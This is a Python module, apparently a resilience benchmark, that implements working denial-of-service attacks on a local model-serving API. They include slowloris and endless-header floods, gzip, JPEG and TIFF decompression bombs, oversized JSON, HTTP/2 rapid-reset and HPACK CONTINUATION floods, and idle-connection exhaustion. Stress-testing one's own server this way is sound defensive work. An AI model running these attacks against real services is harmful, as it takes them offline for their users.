"""Attackers: what each sends, for as long as it is let.

Each keeps some connections busy, opens a new one wherever the server closes one, and reads no more
than it has to.
"""

import asyncio
import base64
import gzip
import io
import socket
import struct
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass
from functools import cache

import orjson
from PIL import Image

from benchmarks.hostile import frames

PREDICT = "/v1/models/brain-tumor:predict"
EXPLAIN = "/v1/models/brain-tumor:explain"
INFER = "/v2/models/brain-tumor/infer"
_KIB = 2**10
_PIECE = 16 * _KIB


@dataclass(frozen=True)
class Target:
    """Where to send it.

    Attributes:
        http: Port of REST, on this machine.
        grpc: Port of gRPC.
        slow: Port of a host that takes connections and answers nothing.
    """

    http: int
    grpc: int
    slow: int


class Wire:
    """One connection of an attacker; counts what it sends."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Args: reader and writer: of the connection."""
        self._reader = reader
        self._writer = writer
        self.sent = 0

    async def send(self, data: bytes) -> None:
        """Sends some bytes, and waits until most of them have gone."""
        self._writer.write(data)
        await self._writer.drain()
        self.sent += len(data)

    async def answer(self) -> bytes:
        """Returns what the server says next, or nothing where it has closed."""
        return await self._reader.read(_PIECE)

    async def until_closed(self) -> None:
        """Reads until the server closes."""
        while await self.answer():
            pass


Session = Callable[[Wire, Target], Awaitable[None]]


@dataclass(frozen=True)
class Attack:
    """A way to attack.

    Attributes:
        name: For the table.
        session: What is done on one connection, from its start.
        connections: How many at once.
        over_grpc: Whether they go to the port of gRPC.
        receive_bytes: Of each connection's buffer for answers; 0 is the system's own choice.
    """

    name: str
    session: Session
    connections: int = 8
    over_grpc: bool = False
    receive_bytes: int = 0


def run(name: str, target: Target, seconds: float) -> int:
    """Attacks.

    Args:
        name: Of an attack in `ATTACKS`.
        target: Who.
        seconds: For how long.

    Returns:
        Bytes sent.
    """
    return asyncio.run(_run(ATTACKS[name], target, seconds))


async def _run(attack: Attack, target: Target, seconds: float) -> int:
    port = target.grpc if attack.over_grpc else target.http
    wires: list[Wire] = []

    async def attacker() -> None:
        while True:
            with suppress(OSError, asyncio.IncompleteReadError):
                await _one(attack, target, port, wires)
            await asyncio.sleep(0.01)  # whoever is turned away tries again

    tasks = [asyncio.create_task(attacker()) for _ in range(attack.connections)]
    await asyncio.sleep(seconds)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    return sum(wire.sent for wire in wires)


async def _one(attack: Attack, target: Target, port: int, wires: list[Wire]) -> None:
    connection = socket.socket()
    connection.setblocking(False)
    if attack.receive_bytes:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, attack.receive_bytes)
    try:
        await asyncio.get_running_loop().sock_connect(connection, ("127.0.0.1", port))
        reader, writer = await asyncio.open_connection(sock=connection)
    except BaseException:
        connection.close()
        raise
    wires.append(Wire(reader, writer))
    try:
        await attack.session(wires[-1], target)
    finally:
        writer.transport.abort()


def _head(path: str, *lines: str) -> bytes:
    return "\r\n".join((f"POST {path} HTTP/1.1", "Host: x", *lines, "", "")).encode()


def _endless(start: bytes, filler: bytes) -> Session:
    async def session(wire: Wire, target: Target) -> None:
        await wire.send(start)
        while True:
            await wire.send(filler * (_PIECE // len(filler)))

    return session


def _requests(path: str, body: Callable[[Target], bytes], *lines: str) -> Session:
    """Sends one request after another; the body is made once, when it is needed."""
    made = cache(body)

    async def session(wire: Wire, target: Target) -> None:
        content = made(target)
        await wire.send(_head(path, f"Content-Length: {len(content)}", *lines) + content)
        await wire.answer()  # its rest is short: a new connection costs no more than to read it

    return session


async def _idle(wire: Wire, target: Target) -> None:
    await wire.until_closed()


async def _slow_head(wire: Wire, target: Target) -> None:
    await wire.send(b"GET / HTTP/1.1\r\nX: ")
    while True:
        await wire.send(b"a")
        await asyncio.sleep(1)


async def _unread(wire: Wire, target: Target) -> None:
    noise = io.BytesIO()
    Image.effect_noise((150, 150), 90).save(noise, "PNG")
    instance = {"b64": base64.b64encode(noise.getvalue()).decode()}
    body = orjson.dumps({"instances": [instance] * 4})  # some hundred KB of answer
    for _ in range(16):
        await wire.send(_head(EXPLAIN, f"Content-Length: {len(body)}") + body)
    await asyncio.Event().wait()


async def _compressed_headers(wire: Wire, target: Target) -> None:
    first = frames.literal(b"a" * 100, b"b" * 100, indexed=True)
    await wire.send(frames.opening() + frames.frame(frames.HEADERS, 0, 1, first))
    while True:
        repeated = b"\xbe" * (_PIECE - 16)  # the first entry of the table, which is that header
        await wire.send(frames.frame(frames.CONTINUATION, 0, 1, repeated))


async def _rapid_reset(wire: Wire, target: Target) -> None:
    await wire.send(frames.opening())
    for stream in range(1, 2**31, 2):
        end = frames.frame(frames.RESET, 0, stream, struct.pack(">I", 8))
        await wire.send(frames.call(stream) + end)
        if stream % 199 == 1:
            await asyncio.sleep(0)


async def _unfinished_calls(wire: Wire, target: Target) -> None:
    await wire.send(frames.opening())
    streams = range(1, 201, 2)
    for stream in streams:
        start = frames.frame(frames.DATA, 0, stream, b"\0" + struct.pack(">I", 100_000))
        await wire.send(frames.call(stream) + start)
    while True:
        for stream in streams:
            await wire.send(frames.frame(frames.DATA, 0, stream, b"\n"))
            await asyncio.sleep(0.01)


def many_scans(scans: int, side: int) -> bytes:
    """Makes a progressive JPEG that repeats its last scan.

    Args:
        scans: How often.
        side: Its width and height, pixels.
    """
    file = io.BytesIO()
    Image.new("L", (side, side), 90).save(file, "JPEG", progressive=True)
    data = file.getvalue()
    start = data.rindex(b"\xff\xda")
    return data[:start] + data[start:-2] * scans + data[-2:]


def float_tiff(side: int) -> bytes:
    """Makes a TIFF of floats that takes few bytes and many pixels.

    Args:
        side: Its width and height, pixels.
    """
    file = io.BytesIO()
    Image.new("F", (side, side), 0.5).save(file, "TIFF", compression="tiff_adobe_deflate")
    return file.getvalue()


def _file(make: Callable[[], bytes], kind: str) -> Session:
    return _requests(PREDICT, lambda target: make(), f"Content-Type: image/{kind}")


def _slow_addresses(target: Target) -> bytes:
    address = f"http://127.0.0.1:{target.slow}/x.jpg"
    return orjson.dumps({"instances": [{"image_url": address}] * 32})


def _outputs(target: Target) -> bytes:
    return orjson.dumps({"inputs": [_TENSOR], "outputs": [{"name": "label"}] * 270_000})


def _parameters(target: Target) -> bytes:
    many = {f"p{number}": 0 for number in range(1_000_000)}
    return orjson.dumps({"inputs": [_TENSOR], "parameters": many})


def _bomb(target: Target) -> bytes:
    return gzip.compress(bytes(512 * 2**20), 1)


_TENSOR = {"name": "image_bytes", "datatype": "BYTES", "shape": [1], "data": ["AAAA"]}
_JSON = "Content-Type: application/json"
_LONG = "9" * 5000
_CHUNKED = _head(PREDICT, "Transfer-Encoding: chunked")
_LIVE = b"GET /v2/health/live HTTP/1.1\r\nHost: x\r\n"

_ALL = (
    Attack("headers without end", _endless(_LIVE, b"X: y\r\n")),
    Attack("a URL without end", _endless(b"GET /", b"a")),
    Attack("trailers without end", _endless(_CHUNKED + b"1\r\na\r\n0\r\n", b"X: y\r\n")),
    Attack(
        "numbers of 5,000 digits",
        _endless(_LIVE + b"\r\n", _head(INFER, f"Content-Length: {_LONG}")),
    ),
    Attack("2,000 idle connections", _idle, 2000),
    Attack("500 heads, a byte a second", _slow_head, 500),
    Attack("answers that are not read", _unread, 40, receive_bytes=4096),
    Attack("JPEGs of 1,595 scans", _file(lambda: many_scans(1595, 4472), "jpeg"), 4),
    Attack("float TIFFs of 20 megapixels", _file(lambda: float_tiff(4472), "tiff"), 4),
    Attack("32 slow addresses a request", _requests(PREDICT, _slow_addresses, _JSON)),
    Attack("270,000 outputs", _requests(INFER, _outputs, _JSON), 4),
    Attack("1,000,000 parameters", _requests(INFER, _parameters, _JSON), 4),
    Attack("gzip of 512 MiB", _requests(PREDICT, _bomb, _JSON, "Content-Encoding: gzip"), 4),
    Attack("gRPC: HPACK's headers", _compressed_headers, over_grpc=True),
    Attack("gRPC: rapid reset", _rapid_reset, 4, over_grpc=True),
    Attack("gRPC: 1,000 unfinished calls", _unfinished_calls, 10, over_grpc=True),
    Attack("gRPC: 2,000 idle connections", _idle, 2000, over_grpc=True),
)
ATTACKS = {attack.name: attack for attack in _ALL}
